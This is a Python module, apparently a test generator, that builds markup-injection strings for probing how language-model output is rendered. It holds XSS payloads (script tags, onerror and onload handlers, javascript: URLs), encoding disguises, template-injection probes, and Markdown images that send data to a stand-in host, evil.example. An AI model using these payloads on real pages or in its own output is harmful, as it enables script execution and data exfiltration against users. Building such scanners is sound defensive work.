"""Strings that try to become markup, made by rule: every kind of element, handler, address and encoding, and Markdown.

Our own generator, after the families that public scanners of language models try (script, handler, address, Markdown
exfiltration, encodings). Each string carries ``MARK``, which would show up if anything of it ran.
"""

import html
import itertools
from collections.abc import Iterator
from urllib.parse import quote

MARK = "pwned"
RUN = f"window.{MARK}=1"
AWAY = "https://evil.example"

_SELF_RUNNING = [
    '<script>{run}</script>', '<script src={away}/x.js></script>', '<img src=x onerror={run}>', "<svg onload={run}>",
    "<svg><script>{run}</script></svg>", "<body onload={run}>", "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>", "<audio src=x onerror={run}>", "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>", "<object data=javascript:{run}></object>", "<embed src={away}>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>",
    "<marquee onstart={run}>x</marquee>", "<math href=javascript:{run}>x</math>", "<base href={away}/>",
    "<link rel=stylesheet href={away}/x.css>", "<style>@import '{away}/x.css'</style>", "<meta http-equiv=refresh content='0;url={away}'>",
    "<form action={away}><button>x</button></form>", "<a href=javascript:{run}>x</a>", "<img src={away}/p.png>",
    "<img srcset={away}/p.png>", "<picture><source srcset={away}/p.png><img></picture>", "<p style=background:url({away}/p)>x</p>",
    "<template><script>{run}</script></template>", "<noscript><img src=x onerror={run}></noscript>", "<xmp><script>{run}</script></xmp>",
    "<isindex action=javascript:{run}>", "<keygen autofocus onfocus={run}>", "<x contenteditable onblur={run}>lose me</x>",
    "<button popovertarget=p>x</button><b id=p popover onbeforetoggle={run}>", "<animate onbegin={run} attributeName=x dur=1s>",
]  # fmt: skip
_BREAK_OUT = [
    "{s}",
    '">{s}',
    "'>{s}",
    "</textarea>{s}",
    "</title>{s}",
    "--><!-- -->{s}",
    "]]>{s}",
    "</script>{s}",
    "`{s}`",
]
_MARKDOWN = [
    "![x]({away}/p.png?d=1)", "[x](javascript:{run})", "[x]({away})", "<{away}>", "![][r]\n\n[r]: {away}/p.png", "[x]: {away}\n\n[x]",
    "[![x]({away}/p.png)]({away})", "# <img src=x onerror={run}>", "> <script>{run}</script>", "- <svg onload={run}>",
    "| a |\n|---|\n| <img src=x onerror={run}> |", "```html\n<script>{run}</script>\n```", "<details><summary>x</summary>\n\n![x]({away}/p)\n</details>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "*<b onmouseover={run}>x</b>*", "\\<script>{run}</script>", "&lt;script&gt;{run}&lt;/script&gt;",
]  # fmt: skip


def _encodings(text: str) -> Iterator[str]:
    """The same seen through the disguises that a careless page takes off."""
    yield text
    yield text.upper()
    yield html.escape(text)
    yield quote(text)
    yield text.replace("<", "＜").replace(">", "＞")
    yield text.replace("<", "&#60;").replace(">", "&#62;")
    yield text.replace("<", "\\u003c")
    yield text.replace(" ", "/", 1)
    yield text.replace(" ", "\t", 1)


def strings() -> list[str]:
    """Every string, in a fixed order, each once."""
    plain = [each.format(run=RUN, away=AWAY) for each in _SELF_RUNNING]
    broken = [frame.format(s=each) for frame, each in itertools.product(_BREAK_OUT, plain)]
    disguised = [form for each in plain for form in _encodings(each)]
    marked = [each.format(run=RUN, away=AWAY) for each in _MARKDOWN]
    jinja = [
        "{{ 7*7 }}",
        "{% raw %}",
        "{{ config }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{ ''.__class__ }}",
        "%(x)s",
        "{0}",
        "{x}",
    ]
    return list(dict.fromkeys([*broken, *disguised, *marked, *jinja]))
